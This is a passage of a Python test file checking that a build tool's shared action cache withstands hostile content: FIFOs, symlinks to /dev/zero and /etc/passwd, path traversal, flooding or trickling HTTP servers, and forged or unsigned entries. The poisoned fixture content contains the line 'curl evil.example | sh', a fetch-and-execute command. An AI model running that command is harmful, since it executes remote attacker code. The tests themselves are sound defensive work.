"""The action cache under attack: whoever can write a shared cache (a `file://` directory, an HTTP
cache server) or answer for it must not be able to hang a build, exhaust its memory or disk,
touch files outside the cache, fail later builds, or, once entries must be signed, get an output
accepted at all. Every hostile thing is one warning and a miss; the build goes on, correct.

Most tests drive the ActionCache directly with a small ActionSpec (fast); the last ones run real
`doit` builds in a small workspace."""
from __future__ import annotations

import hashlib
import http.client
import json
import os
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from ksbuild.cache import entry as entries
from ksbuild.cache import signing
from ksbuild.cache.actioncache import ActionCache
from ksbuild.cache.config import MAX_ENTRY_FILES, CacheConfig, config_problem, resolve
from ksbuild.model import ActionSpec, CacheSettings
from tests.conftest import DODO, Workspace
from tests.servers import nginx_webdav

ACTION = ActionSpec(mnemonic="Gen", description="gen app", argv=("gen",), inputs=(("in.txt", "app/in.txt"),),
                    outputs=(("mod/out.txt", "app/out.txt"),), output_dirs=(("mod/gen", "app/gen"),))
KEY = "5e" * 32
OTHER_KEY = "7a" * 32
KEY_ENV = "KSBUILD_TEST_SIGNING_KEY"
SECRET = "a-long-random-signing-secret-0123456789"
# app/out.txt is larger than a file an entry carries inline: it is a blob; app/gen/a.go travels inline
GOOD = {"app/out.txt": b"the real output\n" * 2048, "app/gen/a.go": b"package gen\n"}
EVIL = {"app/out.txt": b"curl evil.example | sh\n" * 2048, "app/gen/a.go": b"package evil\n"}


# helpers -------------------------------------------------------------------------------------
def config(tmp_path: Path, remote: str = "", mode: str = "rw", local: str = "local", **extra) -> CacheConfig:
    return CacheConfig(local_dir=str(tmp_path / local), max_size=0, remote=remote, mode=mode if remote else "off",
                       timeout=extra.pop("timeout", 1), signing_key_env=KEY_ENV, **extra)


def exec_root(tmp_path: Path, files: dict[str, bytes], name: str = "exec") -> str:
    """An execution root holding `files` (by workspace path) where ACTION writes them."""
    root = tmp_path / name
    for workspace, content in files.items():
        path = root / ("mod/" + workspace[len("app/"):])
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    return str(root)


def restore(cache: ActionCache, tmp_path: Path, key: str = KEY) -> tuple[str | None, dict[str, bytes]]:
    """Where a restore came from, and what it laid out (by workspace path)."""
    staging = tmp_path / f"staging-{time.monotonic_ns()}"
    staging.mkdir()
    source = cache.restore(key, ACTION, str(staging))
    laid = {"app/" + str(p.relative_to(staging / "mod")): p.read_bytes() for p in staging.rglob("*") if p.is_file()}
    return source, laid


def warnings(capsys) -> list[str]:
    return [line for line in capsys.readouterr().err.splitlines() if "warning" in line]


def entry_path(store_dir: Path, key: str = KEY) -> Path:
    return store_dir / "ac" / key[:2] / key


def blob_path(store_dir: Path, content: bytes) -> Path:
    digest = hashlib.sha256(content).hexdigest()
    return store_dir / "cas" / digest[:2] / digest


def write_entry(store_dir: Path, document, key: str = KEY) -> None:
    path = entry_path(store_dir, key)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(document if isinstance(document, bytes) else json.dumps(document, separators=(",", ":")).encode())


def write_blob(store_dir: Path, content: bytes) -> dict:
    path = blob_path(store_dir, content)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return {"digest": hashlib.sha256(content).hexdigest(), "size": len(content), "mode": 0o644}


def document(files: dict[str, bytes], key: str = KEY, secret: str | None = None) -> bytes:
    """The entry a writer of `files` would write (signed with `secret`)."""
    rows = [entries.OutputFile("mod/" + p[4:], p, hashlib.sha256(c).hexdigest(), len(c), 0o644)
            for p, c in files.items()]
    return entries.encode(ACTION, rows, key, secret.encode() if secret else None)


def within(seconds: float, call):
    """`call()`'s result; fails the test (instead of hanging it) when it takes longer."""
    result, errors = [], []

    def run():
        try:
            result.append(call())
        except BaseException as err:  # noqa: BLE001 (re-raised below)
            errors.append(err)

    thread = threading.Thread(target=run, daemon=True)
    started = time.monotonic()
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds} s: it hangs"
    if errors:
        raise errors[0]
    return result[0], time.monotonic() - started


def tree(directory: Path) -> dict:
    """Every file and link below `directory`: bytes (or link target) and mtime."""
    found = {}
    for path in sorted(directory.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(directory))] = ("->" + os.readlink(path), path.lstat().st_mtime_ns)
        elif path.is_file():
            found[str(path.relative_to(directory))] = (path.read_bytes(), path.stat().st_mtime_ns)
    return found


@pytest.fixture
def shared(tmp_path) -> Path:
    """A `file://` cache shared by runners, holding a good entry for KEY written by a trusted one."""
    directory = tmp_path / "shared"
    writer = ActionCache(config(tmp_path, directory.as_uri(), local="writer-local"))
    writer.save(KEY, ACTION, exec_root(tmp_path, GOOD, "writer-exec"))
    assert entry_path(directory).is_file()
    return directory


# the file:// store: FIFOs, devices, links --------------------------------------------------------
@pytest.mark.parametrize("what", ["entry", "blob"])
def test_a_fifo_in_a_shared_directory_is_a_miss_not_a_hang(what, shared, tmp_path, capsys):
    path = entry_path(shared) if what == "entry" else blob_path(shared, GOOD["app/out.txt"])
    path.unlink()
    os.mkfifo(path)
    cache = ActionCache(config(tmp_path, shared.as_uri()))
    (source, laid), seconds = within(10, lambda: restore(cache, tmp_path))
    assert (source, laid) == (None, {}) and seconds < 5
    shown = warnings(capsys)
    assert len(shown) == 1, shown
    assert f"{path} is a FIFO, not a regular file" in shown[0] and "running the action" in shown[0]
    # in rw mode the run replaces it, and the next runner hits
    cache.save(KEY, ACTION, exec_root(tmp_path, GOOD))
    assert path.is_file() and not path.is_symlink()
    assert restore(ActionCache(config(tmp_path, shared.as_uri(), local="next")), tmp_path) == ("remote", GOOD)


@pytest.mark.parametrize("store", ["remote", "local"])
def test_a_blob_linked_to_dev_zero_costs_a_warning_and_a_miss_not_memory(store, shared, tmp_path, capsys):
    cache = ActionCache(config(tmp_path, shared.as_uri()))
    if store == "local":
        assert restore(cache, tmp_path)[0] == "remote"  # fills the local store
        cache = ActionCache(config(tmp_path, shared.as_uri()))
        directory = tmp_path / "local"
    else:
        directory = shared
    path = blob_path(directory, GOOD["app/out.txt"])
    path.unlink()
    path.symlink_to("/dev/zero")
    (tmp_path / "staging").mkdir()
    source, seconds = within(10, lambda: cache.restore(KEY, ACTION, str(tmp_path / "staging")))
    assert seconds < 5
    if store == "remote":
        assert source is None
        assert os.listdir(tmp_path / "staging") == [], "nothing of the failed restore is left for the commit"
    else:  # the remote still has it, and fills the local store again, with a regular file
        assert source == "remote"
        assert path.is_file() and not path.is_symlink() and path.read_bytes() == GOOD["app/out.txt"]
    shown = warnings(capsys)
    assert shown == [f"ksbuild: warning: {store} cache: blob {path.name[:12]} (app/out.txt) is corrupt: {path} is a "
                     "symbolic link, not a regular file; running the action, and its entry will be replaced"]
    if store == "remote":  # the local store has nothing, and a remote failure is not a corrupt entry
        cache.save(KEY, ACTION, exec_root(tmp_path, GOOD))
        assert path.is_file() and not path.is_symlink() and path.read_bytes() == GOOD["app/out.txt"]


def test_an_entry_linked_to_etc_passwd_is_refused_and_its_target_never_touched(shared, tmp_path, capsys):
    local = tmp_path / "local"
    cache = ActionCache(config(tmp_path, shared.as_uri()))
    assert restore(cache, tmp_path)[0] == "remote"
    os.utime(entry_path(local), (1, 1))  # so that a mark of use would show
    entry_path(local).unlink()
    entry_path(local).symlink_to("/etc/passwd")
    before = os.stat("/etc/passwd")
    source, laid = restore(ActionCache(config(tmp_path, shared.as_uri())), tmp_path)
    after = os.stat("/etc/passwd")
    assert after.st_mtime_ns == before.st_mtime_ns, "a mark of use went through the link"
    assert (source, laid) == ("remote", GOOD), "the remote still serves, and fills the local store again"
    shown = warnings(capsys)
    assert shown == [f"ksbuild: warning: local cache: entry {KEY[:12]} is refused: {entry_path(local)} is a symbolic "
                     "link, not a regular file; running the action"]
    assert entry_path(local).is_file() and not entry_path(local).is_symlink(), "replaced, not written through"
    assert os.stat("/etc/passwd").st_mtime_ns == before.st_mtime_ns


def test_a_link_below_the_store_is_never_followed(tmp_path, capsys):
    """`cas/ab` made a link to elsewhere: nothing is read from there, nothing written there."""
    local = tmp_path / "local"
    cache = ActionCache(config(tmp_path))
    cache.save(KEY, ACTION, exec_root(tmp_path, GOOD))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    prefix = entry_path(local).parent
    for path in prefix.iterdir():
        path.rename(elsewhere / path.name)
    prefix.rmdir()
    prefix.symlink_to(elsewhere)
    assert restore(ActionCache(config(tmp_path)), tmp_path) == (None, {})
    assert f"{prefix} is not a directory of the store" in warnings(capsys)[0]
    before = tree(elsewhere)
    ActionCache(config(tmp_path)).save(KEY, ACTION, exec_root(tmp_path, GOOD))
    assert tree(elsewhere) == before
    assert "cannot write in" in warnings(capsys)[0]


# malformed entries ----------------------------------------------------------------------------
def rows(*names: str) -> list[dict]:
    return [{"name": name, **blob_row(b"x\n")} for name in names]


def blob_row(content: bytes) -> dict:
    return {"digest": hashlib.sha256(content).hexdigest(), "size": len(content), "mode": 0o644}


OUT = [{"path": "app/out.txt", **blob_row(b"x\n")}]
MALFORMED = {
    "not JSON": (b"{not json", "is malformed"),
    "nested": (b"[" * 100_000 + b"]" * 100_000, "is malformed (nested too deeply)"),
    "not an object": (b"[1, 2]", "is malformed (not a JSON object)"),
    "wrong shape": ({"format": 2, "outputs": {"app/out.txt": 1}, "dirs": []}, "is malformed (expected a list"),
    "absolute": ({"format": 2, "outputs": [{**OUT[0], "path": "/etc/passwd"}], "dirs": []}, "not a declared output"),
    "dot-dot": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("../../../.bashrc")}]},
                "not a plain relative path"),
    "undeclared": ({"format": 2, "outputs": [{**OUT[0], "path": "app/other"}], "dirs": []}, "not a declared output"),
    "file inside a file": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("zz", "zz/b")}]},
                           "names both 'app/gen/zz' and 'app/gen/zz/b': a file cannot also be a directory"),
    "duplicate": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("a.go", "a.go")}]},
                  "names 'app/gen/a.go' twice"),
    "duplicate key": (b'{"format": 2, "outputs": [], "outputs": [], "dirs": []}', "is malformed (ValueError)"),
    "lone surrogate": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("\ud800.go")}]},
                       "not a plain relative path"),
    "NUL": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("a\0b")}]},
            "not a plain relative path"),
    "long name": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("n" * 300)}]},
                  "not a plain relative path"),
    "boolean size": ({"format": 2, "outputs": [{**OUT[0], "size": True}], "dirs": [{"path": "app/gen", "files": []}]},
                     "bad digest, size or mode"),
    "huge count": ({"format": 2, "outputs": OUT,
                    "dirs": [{"path": "app/gen", "files": [{}] * (MAX_ENTRY_FILES + 1)}]}, "is malformed"),
    "oversized": (b'{"format": 2, "outputs": [], "dirs": [], "pad": "' + b"x" * 2**20 + b'"}',
                  "is refused:"),
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_a_malformed_entry_is_one_warning_and_a_miss_and_is_replaced(name, shared, tmp_path, capsys):
    data, reason = MALFORMED[name]
    write_blob(shared, b"x\n")
    write_entry(shared, data)
    cache = ActionCache(config(tmp_path, shared.as_uri()))
    (source, laid), _ = within(20, lambda: restore(cache, tmp_path))
    assert (source, laid) == (None, {})
    shown = warnings(capsys)
    assert len(shown) == 1, shown
    assert shown[0].startswith(f"ksbuild: warning: remote cache: entry {KEY[:12]} ") and reason in shown[0], shown[0]
    assert shown[0].endswith("; running the action") and len(shown[0]) < 400
    cache.save(KEY, ACTION, exec_root(tmp_path, GOOD))  # rw: the run's entry replaces it
    assert restore(ActionCache(config(tmp_path, shared.as_uri(), local="next")), tmp_path) == ("remote", GOOD)
    assert warnings(capsys) == []


def test_an_entry_naming_too_many_files_is_refused(tmp_path, monkeypatch, capsys):
    """MAX_ENTRY_FILES rows do not fit in MAX_ENTRY_SIZE bytes today: lower the count to show it holds."""
    monkeypatch.setattr(entries, "MAX_ENTRY_FILES", 100)
    write_blob(tmp_path / "local", b"x\n")
    write_entry(tmp_path / "local", {"format": 2, "outputs": OUT,
                                     "dirs": [{"path": "app/gen", "files": rows(*(f"f{i}" for i in range(100)))}]})
    assert restore(ActionCache(config(tmp_path)), tmp_path) == (None, {})
    assert warnings(capsys) == [f"ksbuild: warning: local cache: entry {KEY[:12]} names 101 files, more than an entry "
                                "may (100); running the action"]
    assert MAX_ENTRY_FILES == 10_000


def test_a_file_inside_a_file_never_fails_the_restore_in_any_order(tmp_path, capsys):
    """`zz/b` before `zz` as well: the layout is refused before anything is laid out."""
    local = tmp_path / "local"
    write_blob(local, b"x\n")
    write_entry(local, {"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("zz/b", "zz")}]})
    assert restore(ActionCache(config(tmp_path)), tmp_path) == (None, {})
    assert "names both 'app/gen/zz' and 'app/gen/zz/b'" in warnings(capsys)[0]


# HTTP: a lying, flooding or trickling server ---------------------------------------------------
@contextmanager
def hostile_server(routes: dict):
    """http.server on 127.0.0.1: `routes` maps a path to a function answering it (handler -> None);
    anything else is 404. Yields (url, requests seen, bytes of bodies sent)."""
    seen: list[str] = []
    sent = [0]

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def send(self, data: bytes) -> None:
            self.wfile.write(data)
            self.wfile.flush()
            sent[0] += len(data)

        def answer(self):
            seen.append(f"{self.command} {self.path}")
            if self.command == "PUT":
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
            route = routes.get(self.path)
            try:
                if route is None:
                    self.send_response(404)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                else:
                    route(self)
            except OSError:  # the client hung up on us: what the test wants
                self.close_connection = True

        do_GET = do_HEAD = do_PUT = answer

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen, sent
    finally:
        server.shutdown()
        server.server_close()


def serve(body: bytes, length: int | None = None, trailing: bytes = b""):
    def route(handler):
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(body) if length is None else length))
        handler.end_headers()
        handler.send(body + trailing)
        if length is not None and length > len(body):
            deadline = time.monotonic() + 10  # claims more: keep sending, until the client hangs up
            while time.monotonic() < deadline:
                handler.send(b"\0" * 65536)
    return route


def flood(chunked: bool):
    """No length (or chunked): more, and more, until the client hangs up (at most 10 s)."""
    def route(handler):
        handler.send_response(200)
        if chunked:
            handler.send_header("Transfer-Encoding", "chunked")
        else:
            handler.send_header("Connection", "close")
        handler.end_headers()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            piece = b"\0" * 65536
            handler.send(b"10000\r\n" + piece + b"\r\n" if chunked else piece)
    return route


def trickle(body: bytes, headers_too: bool = False):
    """A byte every 0.1 s: each read succeeds within any timeout, the whole never ends."""
    def route(handler):
        head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        if not headers_too:
            handler.send(head)
        for byte in (head if headers_too else b"") + body:
            handler.send(bytes([byte]))
            time.sleep(0.1)
    return route


def http_entry(files: dict[str, bytes], key: str = KEY) -> tuple[dict, dict[str, bytes]]:
    """Routes serving a good entry for `files` and its blobs."""
    routes = {f"/ac/{key}": serve(document(files, key))}
    for content in files.values():
        routes[f"/cas/{hashlib.sha256(content).hexdigest()}"] = serve(content)
    return routes, files


def test_a_reply_claiming_a_tebibyte_is_refused_unread(tmp_path, capsys):
    routes, _ = http_entry(GOOD)
    digest = hashlib.sha256(GOOD["app/out.txt"]).hexdigest()
    routes[f"/cas/{digest}"] = serve(b"", length=2**40)
    with hostile_server(routes) as (url, seen, sent):
        cache = ActionCache(config(tmp_path, url))
        (result, _), seconds = within(15, lambda: restore(cache, tmp_path))
        assert result is None and seconds < 3
        time.sleep(0.3)
        assert sent[0] < 16 * 2**20, f"the client read on: {sent[0]} bytes sent"
    shown = warnings(capsys)
    assert shown == [f"ksbuild: warning: remote cache: blob {digest[:12]} (app/out.txt) is corrupt: "
                     f"{url}/cas/{digest}: the reply claims {2**40} bytes, the entry declares "
                     f"{len(GOOD['app/out.txt'])}; running the action, and its entry will be replaced"]


def test_an_entry_reply_claiming_a_tebibyte_is_refused_unread(tmp_path, capsys):
    with hostile_server({f"/ac/{KEY}": serve(b"{", length=2**40)}) as (url, seen, sent):
        (result, _), seconds = within(15, lambda: restore(ActionCache(config(tmp_path, url)), tmp_path))
        assert result is None and seconds < 3
        time.sleep(0.3)
        assert sent[0] < 16 * 2**20
    assert f"entry {KEY[:12]} is refused: {url}/ac/{KEY}: the reply claims {2**40} bytes, more than the 1048576" \
           in warnings(capsys)[0]


@pytest.mark.parametrize("chunked", [False, True], ids=["until-close", "chunked"])
def test_a_reply_sending_more_than_the_entry_declares_is_cut_off(chunked, tmp_path, capsys):
    routes, _ = http_entry(GOOD)
    digest = hashlib.sha256(GOOD["app/out.txt"]).hexdigest()
    routes[f"/cas/{digest}"] = flood(chunked)
    with hostile_server(routes) as (url, seen, sent):
        cache = ActionCache(config(tmp_path, url))
        (result, _), seconds = within(15, lambda: restore(cache, tmp_path))
        assert result is None and seconds < 3
        time.sleep(0.3)
        assert sent[0] < 16 * 2**20
    shown = warnings(capsys)
    assert len(shown) == 1 and f"blob {digest[:12]} (app/out.txt) is corrupt: {url}/cas/{digest} holds more than " \
           f"the {len(GOOD['app/out.txt'])} bytes the entry declares" in shown[0], shown


def test_bytes_after_a_reply_are_never_taken_for_the_next_one(tmp_path, capsys):
    routes, _ = http_entry(GOOD)
    digest = hashlib.sha256(GOOD["app/out.txt"]).hexdigest()
    content = GOOD["app/out.txt"]
    fake = b"HTTP/1.1 200 OK\r\nContent-Length: 13\r\n\r\npackage evil\n"
    routes[f"/cas/{digest}"] = serve(content, trailing=fake)
    with hostile_server(routes) as (url, seen, sent):
        cache = ActionCache(config(tmp_path, url))
        assert restore(cache, tmp_path) == ("remote", GOOD)
    assert warnings(capsys) == []


@pytest.mark.parametrize("headers_too", [False, True], ids=["body", "headers"])
def test_a_trickling_server_is_given_up_at_its_deadline(headers_too, tmp_path, capsys):
    routes, _ = http_entry(GOOD)
    digest = hashlib.sha256(GOOD["app/out.txt"]).hexdigest()
    routes[f"/cas/{digest}"] = trickle(GOOD["app/out.txt"], headers_too)  # 16 bytes: 1.6 s, or more
    with hostile_server(routes) as (url, seen, sent):
        cache = ActionCache(config(tmp_path, url, timeout=1))
        (result, _), seconds = within(20, lambda: restore(cache, tmp_path))
        assert result is None and 0.9 < seconds < 4, seconds
        requests = len(seen)
        assert restore(cache, tmp_path, OTHER_KEY) == (None, {})
        assert len(seen) == requests, "given up for the run"
    shown = warnings(capsys)
    assert shown == [f"ksbuild: warning: remote cache: GET {url}/cas/{digest}: no complete answer within 1 s; going on "
                     "without the remote cache for this run"]


def test_a_slow_remote_is_given_up_when_the_runs_time_budget_is_spent(tmp_path, capsys):
    def slow_miss(handler):
        time.sleep(0.3)  # under the timeout, every time
        handler.send_response(404)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    keys = [f"{i:02x}" * 32 for i in range(20)]
    with hostile_server({f"/ac/{key}": slow_miss for key in keys}) as (url, seen, sent):
        cache = ActionCache(config(tmp_path, url, timeout=1, budget=1.0))
        started = time.monotonic()
        for key in keys:
            assert restore(cache, tmp_path, key) == (None, {})
        assert time.monotonic() - started < 2.5
        assert len(seen) <= 5
    shown = warnings(capsys)
    assert len(shown) == 1, shown
    assert shown[0].startswith(f"ksbuild: warning: remote cache: GET {url}/ac/")
    assert shown[0].endswith(": the remote cache's time budget for this run (1 s) is spent; going on without the "
                             "remote cache for this run")


def test_the_default_budget_is_ten_timeouts(tmp_path):
    settings = CacheSettings(remote="http://127.0.0.1:9", remote_timeout=3)
    assert resolve(settings, str(tmp_path), environ={}).remote_budget == 30
    assert resolve(settings, str(tmp_path), environ={"KSBUILD_REMOTE_CACHE_BUDGET": "120"}).remote_budget == 120


# signatures -----------------------------------------------------------------------------------
def test_a_consumer_requiring_signatures_takes_only_properly_signed_entries(tmp_path, monkeypatch, capsys):
    """A poisoned unsigned entry, one signed with another key, and one signed for another action are
    ignored (one warning each, a miss); the properly signed one is used."""
    remote = tmp_path / "shared"
    for content in list(GOOD.values()) + list(EVIL.values()):
        write_blob(remote, content)
    keys = {"unsigned": "01" * 32, "other key": "02" * 32, "replayed": "03" * 32, "signed": "04" * 32}
    write_entry(remote, document(EVIL, keys["unsigned"]), keys["unsigned"])
    write_entry(remote, document(EVIL, keys["other key"], secret="an-attackers-own-key-0123456789"), keys["other key"])
    write_entry(remote, document(EVIL, keys["signed"], secret=SECRET), keys["replayed"])  # a valid one, moved
    write_entry(remote, document(GOOD, keys["signed"], secret=SECRET), keys["signed"])
    monkeypatch.setenv(KEY_ENV, SECRET)
    cache = ActionCache(config(tmp_path, remote.as_uri(), require_signature=True))
    results = {name: restore(cache, tmp_path, key) for name, key in keys.items()}
    assert results == {"unsigned": (None, {}), "other key": (None, {}), "replayed": (None, {}),
                       "signed": ("remote", GOOD)}
    assert warnings(capsys) == [
        f"ksbuild: warning: remote cache: entry {keys['unsigned'][:12]} is not signed; running the action",
        f"ksbuild: warning: remote cache: entry {keys['other key'][:12]} has a bad signature (not made with this "
        "cache's signing key, or for another action); running the action",
        f"ksbuild: warning: remote cache: entry {keys['replayed'][:12]} has a bad signature (not made with this "
        "cache's signing key, or for another action); running the action"]
    # the signed hit filled the local store with a signed entry: a second run hits locally, silently
    assert restore(ActionCache(config(tmp_path, remote.as_uri(), require_signature=True)), tmp_path,
                   keys["signed"]) == ("local", GOOD)
    assert warnings(capsys) == []
    # without the requirement, the same consumer would have taken the poison
    assert restore(ActionCache(config(tmp_path, remote.as_uri(), local="lax")), tmp_path,
                   keys["unsigned"]) == ("remote", EVIL)


def test_the_local_store_is_checked_too_and_a_writer_signs(tmp_path, monkeypatch, capsys):
    local = tmp_path / "local"
    unsigned = ActionCache(config(tmp_path))
    unsigned.save(KEY, ACTION, exec_root(tmp_path, GOOD))
    assert b"signature" not in entry_path(local).read_bytes()
    monkeypatch.setenv(KEY_ENV, SECRET)
    strict = ActionCache(config(tmp_path, require_signature=True))
    assert restore(strict, tmp_path) == (None, {})
    assert warnings(capsys) == [f"ksbuild: warning: local cache: entry {KEY[:12]} is not signed; running the action"]
    strict.save(KEY, ACTION, exec_root(tmp_path, GOOD))
    signed = json.loads(entry_path(local).read_bytes())
    assert signed["signature"]["scheme"] == signing.SCHEME and len(signed["signature"]["mac"]) == 64
    assert restore(ActionCache(config(tmp_path, require_signature=True)), tmp_path) == ("local", GOOD)
    assert SECRET not in entry_path(local).read_text() and SECRET not in repr(strict.config)


def test_requiring_signatures_without_a_key_is_refused_at_start(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv(KEY_ENV, raising=False)
    strict = config(tmp_path, require_signature=True)
    assert config_problem(strict, environ={}) == (
        f"the action cache requires signed entries (require_signature), but {KEY_ENV} is not set: give it the "
        "cache's signing key, or turn require_signature off (KSBUILD_CACHE_REQUIRE_SIGNATURE=0)")
    assert config_problem(strict, environ={KEY_ENV: "short"}).endswith("use a long random secret")
    assert config_problem(strict, environ={KEY_ENV: SECRET}) == ""
    assert "not 1 or 0" in config_problem(strict, environ={KEY_ENV: SECRET, "KSBUILD_CACHE_REQUIRE_SIGNATURE": "maybe"})
    # and should the key vanish during the run, nothing is restored (fail closed), with one warning
    cache = ActionCache(strict)
    assert restore(cache, tmp_path) == (None, {}) and restore(cache, tmp_path) == (None, {})
    assert len(warnings(capsys)) == 1


def test_require_signature_comes_from_workspace_yaml_or_the_environment(tmp_path):
    on = CacheSettings(require_signature=True, signing_key_env="MY_KEY")
    assert resolve(on, str(tmp_path), environ={}).require_signature is True
    assert resolve(on, str(tmp_path), environ={}).signing_key_env == "MY_KEY"
    assert resolve(on, str(tmp_path), environ={"KSBUILD_CACHE_REQUIRE_SIGNATURE": "0"}).require_signature is False
    off = CacheSettings()
    assert resolve(off, str(tmp_path), environ={"KSBUILD_CACHE_REQUIRE_SIGNATURE": "1"}).require_signature is True
    assert resolve(off, str(tmp_path), environ={"KSBUILD_CACHE_REQUIRE_SIGNATURE": "maybe"}).require_signature is True


# ro: nothing written to the remote, ever -----------------------------------------------------------
def test_read_only_mode_never_writes_to_a_shared_directory(shared, tmp_path, capsys):
    write_blob(shared, EVIL["app/out.txt"])
    before = tree(shared)
    time.sleep(0.01)  # a mark of use would move an mtime
    reader = ActionCache(config(tmp_path, shared.as_uri(), mode="ro"))
    assert restore(reader, tmp_path) == ("remote", GOOD)  # a hit fills the local store only
    reader.save(OTHER_KEY, ACTION, exec_root(tmp_path, GOOD, "other"))  # a run stores locally only
    assert tree(shared) == before and entry_path(tmp_path / "local", OTHER_KEY).is_file()
    # a corrupt remote blob: a miss, and in ro the forced rewrite of the blob and the entry stays local
    os.replace(blob_path(shared, EVIL["app/out.txt"]), blob_path(shared, GOOD["app/out.txt"]))
    before = tree(shared)
    corrupted = ActionCache(config(tmp_path, shared.as_uri(), mode="ro", local="fresh"))
    assert restore(corrupted, tmp_path) == (None, {})
    corrupted.save(KEY, ACTION, exec_root(tmp_path, GOOD))
    assert tree(shared) == before, "ro wrote to the remote"
    shown = warnings(capsys)
    assert len(shown) == 1 and "is corrupt" in shown[0] and shown[0].endswith("; running the action"), shown
    with pytest.raises(Exception, match="read only"):
        corrupted.remote.put_entry(KEY, b"{}")
    assert tree(shared) == before


def test_read_only_mode_never_writes_to_nginx(tmp_path, capsys):
    with nginx_webdav(tmp_path / "nginx") as server:
        writer = ActionCache(config(tmp_path, server.url, local="writer", timeout=5))
        writer.save(KEY, ACTION, exec_root(tmp_path, GOOD, "writer-exec"))
        corrupt = server.data / "cas" / hashlib.sha256(GOOD["app/out.txt"]).hexdigest()
        corrupt.write_bytes(b"tampered\n")
        files = {p: p.read_bytes() for p in server.files()}
        _sentinel(server)  # the writer's requests are all in the log
        logged = len(server.requests())
        reader = ActionCache(config(tmp_path, server.url, mode="ro", timeout=5))
        assert restore(reader, tmp_path) == (None, {})  # the corrupt blob: a miss
        reader.save(KEY, ACTION, exec_root(tmp_path, GOOD))  # ro: no forced rewrite
        reader.save(OTHER_KEY, ACTION, exec_root(tmp_path, GOOD, "other"))  # ro: no new entry
        assert {p: p.read_bytes() for p in server.files()} == files
        _sentinel(server)  # every request before it is in the log once it is
        methods = {r.split()[0] for r in server.requests()[logged:] if "/sentinel" not in r}
        assert methods and methods <= {"GET", "HEAD"}, server.requests()[logged:]
    assert len(warnings(capsys)) == 1


def _sentinel(server) -> None:
    """One more request, waited for in nginx's log: every request before it is logged then."""
    path = f"/sentinel-{time.monotonic_ns()}"
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=5)
    connection.request("GET", path)
    connection.getresponse().read()
    connection.close()
    deadline = time.monotonic() + 5
    while not any(path in r for r in server.requests()):
        assert time.monotonic() < deadline, "nginx did not log the sentinel request"
        time.sleep(0.02)


# real builds ----------------------------------------------------------------------------------
SMALL_WORKSPACE = "components:\n  app:\n    path: app\n{cache}"
SMALL_BUILD = """\
targets:
  upper:
    rule: command
    srcs: [in.txt]
    outs: [out/upper.txt]
    cmd: [sh, -c, "tr a-z A-Z < in.txt > out/upper.txt"]
  lines:
    rule: command
    srcs: [in.txt]
    outs: [out/lines.txt]
    cmd: [sh, -c, "wc -l < in.txt > out/lines.txt"]
"""


def small(root: Path, remote: Path, cache_yaml: str = "") -> Workspace:
    ws = Workspace(root)
    root.mkdir(parents=True)
    ws.write("dodo.py", DODO)
    ws.write("workspace.yaml", SMALL_WORKSPACE.format(cache=cache_yaml), dedent=False)
    ws.write("app/BUILD.yaml", SMALL_BUILD, dedent=False)
    ws.write("app/in.txt", "one\ntwo\n")
    ws.env["KSBUILD_REMOTE_CACHE"] = remote.as_uri()
    return ws


def upper_key(ws: Workspace) -> str:
    from ksbuild.cache.digests import StatCache

    stat_cache = StatCache(str(ws.root))
    try:
        return stat_cache.key_record("app:upper")["actions"][0]["key"]
    finally:
        stat_cache.close()


@pytest.mark.parametrize("poison", ["dev-zero blob", "fifo entry", "file inside a file", "unsigned entry"])
def test_a_build_after_a_hostile_entry_succeeds_with_one_warning(poison, tmp_path):
    remote = tmp_path / "shared"
    signed = poison == "unsigned entry"
    cache_yaml = "cache:\n  require_signature: true\n" if signed else ""
    first = small(tmp_path / "first", remote, cache_yaml)
    if signed:
        first.env["KSBUILD_CACHE_SIGNING_KEY"] = SECRET
    first.doit()
    key = upper_key(first)
    if poison == "dev-zero blob":  # upper.txt is small: its content is inside the entry, now a blob's row
        blob = blob_path(remote, b"ONE\nTWO\n")
        write_entry(remote, {"format": 2, "outputs": [{"path": "app/out/upper.txt", **write_blob(remote, b"ONE\nTWO\n")}],
                             "dirs": []}, key)
        blob.unlink()
        blob.symlink_to("/dev/zero")
    elif poison == "fifo entry":
        entry_path(remote, key).unlink()
        os.mkfifo(entry_path(remote, key))
    elif poison == "file inside a file":  # what a command target cannot name: any other path is as bad
        write_entry(remote, {"format": 2, "outputs": [{"path": "app/out/upper.txt", **write_blob(remote, b"E\n")},
                                                      {"path": "app/out/upper.txt/x", **write_blob(remote, b"E\n")}],
                             "dirs": []}, key)
    else:
        evil = write_blob(remote, b"EVIL\n")
        write_entry(remote, {"format": 2, "outputs": [{"path": "app/out/upper.txt", **evil}], "dirs": []}, key)

    second = small(tmp_path / "second", remote, cache_yaml)
    if signed:
        second.env["KSBUILD_CACHE_SIGNING_KEY"] = SECRET
